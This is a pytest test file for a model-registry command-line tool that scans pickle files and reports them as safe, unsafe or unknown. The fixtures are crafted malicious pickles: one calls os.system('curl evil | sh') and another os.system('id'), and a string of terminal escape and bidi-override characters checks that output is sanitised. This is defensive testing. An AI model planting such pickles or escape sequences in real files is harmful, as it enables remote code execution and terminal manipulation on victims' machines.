"""Pickles on the command line: the verdict in ``inspect``, ``register``, ``ls`` and ``show``, and nothing in it touches the terminal."""

from __future__ import annotations

from pathlib import Path

import pytest
from mvtui.store import Store

from tests.store.knowledge.formats.assembly import (
    LINEAR,
    LINEAR_DATA,
    call,
    name,
    ordered,
    pickled,
    torch_zip,
)
from tests.tui.cli.conftest import Run

SAFE = torch_zip(ordered(LINEAR), LINEAR_DATA)
UNSAFE = torch_zip([call("os", "system", "curl evil | sh"), name("shop", "Net")])
UNKNOWN = pickled(name("shop.models", "Ranker"))


@pytest.fixture
def files(own_world: None) -> Path:
    """The working directory with files of every verdict."""
    here = Path.cwd()
    for path, data in {
        "safe.pt": SAFE,
        "evil.pt": UNSAFE,
        "odd.pkl": UNKNOWN,
        "plain.bin": b"weights",
    }.items():
        (here / path).write_bytes(data)
    return here


def test_what_it_would_run_is_shown(files: Path, run: Run) -> None:
    shown = run("inspect", "evil.pt").out
    assert "pickles  ✗ unsafe: os.system\n" in shown
    assert "\npickles\n  it would call os.system('curl evil | sh')\n  also unknown: shop.Net\n" in shown
    assert "pickles     ✓ safe\n" in run("inspect", "safe.pt").out
    assert "? unknown: shop.models.Ranker\n" in run("inspect", "odd.pkl").out
    row = run("inspect", "evil.pt", "--json").json["pickles"]
    assert (row["verdict"], row["unsafe"], row["unknown"]) == ("unsafe", ["os.system"], ["shop.Net"])
    assert row["calls"] == ["os.system('curl evil | sh')"]


def test_each_file_of_several_has_its_own_verdict(files: Path, run: Run) -> None:
    (files / "out").mkdir()
    for file in ("safe.pt", "evil.pt", "odd.pkl"):
        (files / file).rename(files / "out" / file)
    (files / "out" / "cut.pkl").write_bytes(pickled({"a": 1})[:-2])
    shown = run("inspect", "out")
    assert shown.code == 4
    lines = {line.split()[0]: line for line in shown.out.splitlines() if line.startswith("  ")}
    assert "✓ safe" in lines["safe.pt"]
    assert "✗ unsafe" in lines["evil.pt"]
    assert "? unknown" in lines["odd.pkl"]
    assert "? partly inspected" in lines["cut.pkl"]
    assert "not looked at: cut.pkl: it ends in the middle of a pickle" in shown.out


def test_a_file_that_is_neither_valid_nor_safe_says_both(files: Path, run: Run) -> None:
    (files / "cut.pkl").write_bytes(pickled(call("os", "system", "id"))[:-1])
    shown = run("inspect", "cut.pkl")
    assert shown.code == 4
    assert "✗ unsafe: os.system" in shown.out
    assert "not a valid pickle file: it ends in the middle of a pickle" in shown.out


def test_lists_show_sign_and_word(files: Path, run: Run, store: Store) -> None:
    for file in ("safe.pt", "odd.pkl", "plain.bin"):
        assert run("register", "m", file, "--no-capture").err.count("could run") == 0
    told = run("register", "m", "evil.pt", "--no-capture").err
    assert "warning: loading it could run os.system" in told
    assert "mvtui inspect m@" in told
    rows = run("ls", "m").out.splitlines()
    assert rows[0].split()[:3] == ["VERSION", "ID", "PICKLES"]
    cells = ["✗ unsafe", "", "? unknown", "✓ safe"]
    begin = rows[0].index("PICKLES")
    assert [row[begin : begin + 10].strip() for row in rows[1:]] == cells
    assert [row["pickles"] for row in run("ls", "m", "--json").json] == ["unsafe", "none", "unknown", "safe"]
    shown = run("show", "m").out
    assert "pickles  ✗ unsafe: os.system\n" in shown
    assert [row["version"] for row in run("ls", "pickle:unsafe", "--json").json] == [
        run("show", "m", "--json").json["version"]
    ]
    assert run("show", "m", "--json").json["pickle_reasons"] == ["os.system"]


def test_without_pickles_there_is_no_column(files: Path, run: Run, store: Store) -> None:
    run("register", "m", "plain.bin", "--no-capture")
    assert "PICKLES" not in run("ls").out
    assert "pickles" not in run("show", "m").out


def test_an_unsafe_one_is_never_left_out_of_a_narrow_list(
    files: Path, run: Run, store: Store, monkeypatch: pytest.MonkeyPatch
) -> None:
    from mvtui.tui.cli import table

    monkeypatch.setattr(table, "is_tty", lambda _stream: True)
    monkeypatch.setenv("COLUMNS", "40")
    run("register", "m", "safe.pt", "--no-capture", "--metric", "accuracy=0.9", "--note", "x" * 50)
    assert "PICKLES" not in run("ls", "m").out
    run("register", "m", "evil.pt", "--no-capture")
    assert "✗ unsafe" in run("ls", "m").out


EVIL = "\x1b]0;pwned\x07\x1b[2J\u202e[/red]"


def test_what_pickles_say_can_not_touch_the_terminal(files: Path, run: Run, store: Store) -> None:
    (files / "evil.pkl").write_bytes(
        pickled([call("os", f"system{EVIL}", EVIL), call(f"os.{EVIL}", "x", EVIL), name(EVIL, EVIL)])
    )
    told = [run("inspect", "evil.pkl"), run("register", "m", "evil.pkl", "--no-capture")]
    told += [run("ls", "m"), run("show", "m"), run("inspect", "m")]
    for each in told:
        assert not set(each.out + each.err) & set("\x1b\x07\u202e")
    assert "os.system" in told[0].out


def test_in_ascii(files: Path, run: Run, monkeypatch: pytest.MonkeyPatch) -> None:
    for place in ("output", "inspect_report"):
        monkeypatch.setattr(f"mvtui.tui.cli.{place}.ascii_only", lambda: True)
    shown = run("inspect", "evil.pt").out
    assert "x unsafe: os.system" in shown
    assert shown.isascii()
